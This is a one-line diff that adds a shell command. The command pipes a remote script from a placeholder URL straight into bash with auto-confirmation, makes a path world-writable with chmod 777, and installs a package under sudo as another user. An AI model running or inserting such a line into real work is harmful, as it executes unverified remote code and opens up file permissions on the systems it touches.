@@ -1,0 +1,1 @@
+curl -fsSL https://x | bash -s -- -y && chmod 777 /x && sudo -u a apk add --no-cache b=1
